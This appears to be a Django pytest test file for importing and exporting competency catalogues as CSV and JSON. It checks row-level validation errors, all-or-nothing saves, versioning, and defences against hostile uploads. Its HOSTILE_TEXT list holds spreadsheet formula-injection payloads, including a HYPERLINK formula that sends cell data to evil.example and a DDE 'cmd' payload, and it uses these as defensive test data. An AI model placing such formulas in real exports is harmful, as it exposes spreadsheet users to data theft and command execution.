"""Catalogue import and export: every bad file refused with nothing written."""

import csv
import io
import json

import pytest

from competencies.models import Alignment, CatalogueImport, Domain, Framework, Item
from competencies.services.catalogue_data import CatalogueFileError
from competencies.services.catalogue_export import framework_export_csv, framework_export_json
from competencies.services.catalogue_files import CSV_COLUMNS, parse_csv, parse_fixture
from competencies.services.catalogue_import import catalogue_apply
from competencies.services.imports import catalogue_import_apply, catalogue_import_create
from core.spreadsheets import FORMULA_TRIGGERS

pytestmark = pytest.mark.django_db

HEADER = "framework,domain_code,domain_title,item_code,item_text,order\n"
GOOD_CSV = HEADER + (
    "local-skills,1,Listening,1.1,Listens with careful attention,1\n"
    "local-skills,1,Listening,1.2,Reflects feelings back,2\n"
    'local-skills,2,Advocacy,2.1,"Supports self-advocacy, with permission",1\n'
)


def _everything():
    return (
        Framework.objects.count(),
        Domain.objects.count(),
        Item.objects.count(),
        Alignment.objects.count(),
        CatalogueImport.objects.count(),
    )


def test_good_csv_imports_through_preview_and_confirm(admin_user):
    record, plan = catalogue_import_create(
        user=admin_user, filename="local.csv", content=GOOD_CSV.encode()
    )
    assert Framework.objects.filter(slug="local-skills").count() == 0  # preview writes no catalogue
    assert plan.frameworks[0].items_added == ["1.1", "1.2", "2.1"]
    catalogue_import_apply(record=record)
    framework = Framework.objects.get(slug="local-skills")
    assert list(framework.items.values_list("code", "text").order_by("code")) == [
        ("1.1", "Listens with careful attention"),
        ("1.2", "Reflects feelings back"),
        ("2.1", "Supports self-advocacy, with permission"),
    ]
    record.refresh_from_db()
    assert record.status == CatalogueImport.Status.APPLIED


def test_confirming_twice_is_refused(admin_user):
    record, _ = catalogue_import_create(
        user=admin_user, filename="local.csv", content=GOOD_CSV.encode()
    )
    catalogue_import_apply(record=record)
    with pytest.raises(CatalogueFileError, match="already imported"):
        catalogue_import_apply(record=record)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            "framework,domain,title,item_code,item_text,order\nx,1,T,1.1,Text,1\n",
            "missing column(s) domain_code, domain_title",
        ),
        (
            HEADER + "x,1,T,1.1,Text,1\nx,1,T,1.1,Other text,2\n",
            "Row 3: item code '1.1' is used twice",
        ),
        (HEADER + "x,1,T,1.1,,1\n", "Row 2: field 'item_text' is empty"),
        (HEADER + "x,1,T,1.1,Text,first\n", "Row 2: field 'order' must be a whole number"),
        (HEADER + "x,1,T,1.1,Text\n", "Row 2: has 5 cells, the header has 6"),
        (
            HEADER + "x,1,T,1.1,Text,1\nx,1,Another title,1.2,Text,2\n",
            "Row 3: domain 1 has the title",
        ),
        (HEADER, "holds no catalogue"),
        ("", "The file is empty"),
    ],
)
def test_bad_csv_is_refused_naming_row_and_field(admin_user, content, message):
    before = _everything()
    with pytest.raises(CatalogueFileError) as excinfo:
        catalogue_import_create(user=admin_user, filename="bad.csv", content=content.encode())
    assert any(message in error for error in excinfo.value.errors), excinfo.value.errors
    assert _everything() == before


def test_non_utf8_is_refused(admin_user):
    content = (HEADER + "x,1,Título,1.1,Café,1\n").encode("latin-1")
    with pytest.raises(CatalogueFileError, match="not UTF-8"):
        catalogue_import_create(user=admin_user, filename="bad.csv", content=content)
    assert _everything() == (0, 0, 0, 0, 0)


@pytest.mark.parametrize(
    ("objects", "message"),
    [
        ("not json", "not valid JSON"),
        ('{"model": "competencies.framework"}', "JSON list of objects"),
        ('[{"model": "auth.user", "fields": {}}]', "'auth.user' is not a catalogue model"),
        (
            '[{"model": "competencies.domain", "fields": {"framework": ["nope", 1], "code": "A", "title": "T"}}]',
            "framework ['nope', 1] is not defined earlier",
        ),
    ],
)
def test_bad_fixture_is_refused(objects, message):
    with pytest.raises(CatalogueFileError) as excinfo:
        parse_fixture(objects.encode())
    assert any(message in error for error in excinfo.value.errors), excinfo.value.errors


def test_one_bad_row_writes_nothing_even_after_good_rows(admin_user):
    content = GOOD_CSV + "local-skills,3,Growth,3.1,,1\n"
    with pytest.raises(CatalogueFileError, match="Row 5: field 'item_text' is empty"):
        catalogue_import_create(user=admin_user, filename="bad.csv", content=content.encode())
    assert _everything() == (0, 0, 0, 0, 0)


@pytest.fixture
def operator(db):
    """The deployment's operator: a superuser of no organisation, who keeps the shared
    catalogues (an agency's admin adds only to its own)."""
    from tests.factories import UserFactory

    return UserFactory(organisation=None, is_superuser=True)


def test_changing_published_text_is_refused_naming_the_items(catalogues, operator):
    samhsa = Framework.objects.get(slug="samhsa", version=1)
    csv_text = framework_export_csv(framework=samhsa).replace(
        "Uses active listening skills", "Listens actively"
    )
    before = _everything()
    with pytest.raises(CatalogueFileError, match=r"item IX\.2 text"):
        catalogue_import_create(user=operator, filename="samhsa.csv", content=csv_text.encode())
    assert _everything() == before
    assert Item.objects.get(framework=samhsa, code="IX.2").text == "Uses active listening skills"


def test_changed_text_can_be_published_as_a_new_version(catalogues, operator):
    samhsa = Framework.objects.get(slug="samhsa", version=1)
    csv_text = framework_export_csv(framework=samhsa).replace(
        "Uses active listening skills", "Listens actively"
    )
    record, plan = catalogue_import_create(
        user=operator, filename="samhsa.csv", content=csv_text.encode(), as_new_version=True
    )
    assert plan.frameworks[0].version == 2
    catalogue_import_apply(record=record)
    assert Item.objects.get(framework__slug="samhsa", framework__version=1, code="IX.2").text == (
        "Uses active listening skills"
    )
    assert Item.objects.get(framework__slug="samhsa", framework__version=2, code="IX.2").text == (
        "Listens actively"
    )
    assert Item.objects.filter(framework__slug="samhsa", framework__version=2).count() == 67


def test_loaddata_refuses_to_rewrite_published_text(catalogues, tmp_path):
    from django.core.management import call_command

    samhsa = Framework.objects.get(slug="samhsa", version=1)
    data = json.loads(framework_export_json(framework=samhsa))
    for obj in data:
        if obj["model"] == "competencies.item" and obj["fields"]["code"] == "IX.2":
            obj["fields"]["text"] = "Listens actively"
    path = tmp_path / "changed.json"
    path.write_text(json.dumps(data))
    with pytest.raises(Exception, match="IX.2"):
        call_command("loaddata", str(path), verbosity=0)
    assert Item.objects.get(framework=samhsa, code="IX.2").text == "Uses active listening skills"


def test_metadata_updates_are_applied(catalogues):
    dacum = Framework.objects.get(slug="dacum-pss")
    data = parse_fixture(framework_export_json(framework=dacum).encode())
    data.frameworks[0].domains[0].items[0].examples = "Conflict between two members of a group"
    plan = catalogue_apply(data=data)
    assert plan.frameworks[0].changed == ["item A.1 examples"]
    assert Item.objects.get(framework=dacum, code="A.1").examples.startswith("Conflict")
    assert plan.summary_lines()[0] == "DACUM PSS v1: 1 field updated, 218 items already there"


@pytest.mark.parametrize("export", [framework_export_json, framework_export_csv])
def test_export_then_import_into_an_empty_database_gives_the_same_catalogue(catalogues, export):
    def catalogue(slug):
        fw = Framework.objects.get(slug=slug)
        meta = (
            fw.slug,
            fw.version,
            fw.name,
            fw.short_name,
            fw.source_title,
            fw.publisher,
            fw.published,
            fw.description,
        )
        domains = sorted(
            fw.domains.values_list(
                "code", "title", "description", "kind", "order", "stated_item_count", "ojt_hours"
            )
        )
        items = sorted(
            fw.items.values_list("domain__code", "code", "text", "description", "examples", "order")
        )
        return meta, domains, items

    exported = {}
    for slug in ("samhsa", "dacum-pss", "work-process"):
        exported[slug] = (catalogue(slug), export(framework=Framework.objects.get(slug=slug)))
    Alignment.objects.all().delete()
    Framework.objects.all().delete()
    for _, content in exported.values():
        parse = parse_csv if export is framework_export_csv else parse_fixture
        catalogue_apply(data=parse(content.encode()))
    for slug, (expected, _) in exported.items():
        assert catalogue(slug) == expected


def test_csv_export_has_the_documented_columns(catalogues):
    text = framework_export_csv(framework=Framework.objects.get(slug="cmpsa"))
    assert text.splitlines()[0] == ",".join(f'"{column}"' for column in CSV_COLUMNS)
    assert len(text.splitlines()) == 1 + 107


def test_alignment_to_a_missing_item_is_refused(catalogues):
    content = json.dumps(
        [
            {
                "model": "competencies.alignment",
                "fields": {
                    "source_item": ["samhsa", 1, "I.1"],
                    "source_domain": None,
                    "target_item": ["cmpsa", 1, "99.9"],
                    "target_domain": None,
                    "note": "",
                },
            }
        ]
    )
    with pytest.raises(CatalogueFileError, match="no item 99.9 of cmpsa v1"):
        catalogue_apply(data=parse_fixture(content.encode()))


HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'plain",
]


def test_a_csv_export_of_hostile_text_has_no_formula_and_imports_back_unchanged(admin_user):
    rows = "".join(
        f'local-skills,1,Listening,1.{n},"item {n}",{n}\n' for n in range(len(HOSTILE_TEXT))
    )
    catalogue_apply(data=parse_csv((HEADER + rows).encode()))
    framework = Framework.objects.get(slug="local-skills")
    for n, text in enumerate(HOSTILE_TEXT):
        Item.objects.filter(framework=framework, code=f"1.{n}").update(
            text=text, description=text, examples=text
        )
    Domain.objects.filter(framework=framework).update(title="=1+1", description="@x")
    Framework.objects.filter(pk=framework.pk).update(name="-x", description="+y")

    def catalogue():
        fw = Framework.objects.get(slug="local-skills")
        domains = sorted(fw.domains.values_list("code", "title", "description"))
        items = sorted(fw.items.values_list("code", "text", "description", "examples"))
        return fw.name, fw.description, domains, items

    expected = catalogue()
    exported = framework_export_csv(framework=Framework.objects.get(pk=framework.pk))
    for row in list(csv.reader(io.StringIO(exported)))[1:]:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
    Framework.objects.all().delete()
    catalogue_apply(data=parse_csv(exported.encode()))
    assert catalogue() == expected


def _fixture(*, item_fields='"code": "1.1", "text": "Listens", "order": 1'):
    return (
        '[{"model": "competencies.framework", "fields": {"slug": "local", "version": 1, '
        '"name": "Local", "short_name": "Local"}}, '
        '{"model": "competencies.domain", "fields": {"framework": ["local", 1], "code": "1", '
        '"title": "Listening"}}, '
        '{"model": "competencies.item", "fields": {"domain": ["local", 1, "1"], '
        f"{item_fields}}}}}]"
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("deep.json", "[" * 5000 + "]" * 5000, "more than 16 levels deep"),
        ("deep.json", '{"a": ' * 5000 + "1" + "}" * 5000, "more than 16 levels deep"),
        (
            "nul.csv",
            HEADER + "local,1,Listening,1.1,Listens\x00 well,1\n",
            "NUL character (line 2)",
        ),
        (
            "nul.json",
            _fixture(item_fields='"code": "1.1", "text": "Listens\\u0000 well", "order": 1'),
            "field 'text' contains a NUL character",
        ),
        (
            "twice.json",
            _fixture(
                item_fields='"code": "1.1", "text": "Listens", "text": "Rewritten", "order": 1'
            ),
            "the key 'text' twice",
        ),
    ],
)
def test_hostile_uploads_are_refused_plainly_and_nothing_is_saved(
    admin_user, name, content, message
):
    with pytest.raises(CatalogueFileError) as excinfo:
        catalogue_import_create(user=admin_user, filename=name, content=content.encode())
    assert any(message in error for error in excinfo.value.errors), excinfo.value.errors
    assert _everything() == (0, 0, 0, 0, 0)


def test_the_fixture_used_for_hostile_uploads_imports_when_clean(admin_user):
    record, _ = catalogue_import_create(
        user=admin_user, filename="local.json", content=_fixture().encode()
    )
    catalogue_import_apply(record=record)
    assert Item.objects.get(framework__slug="local", code="1.1").text == "Listens"
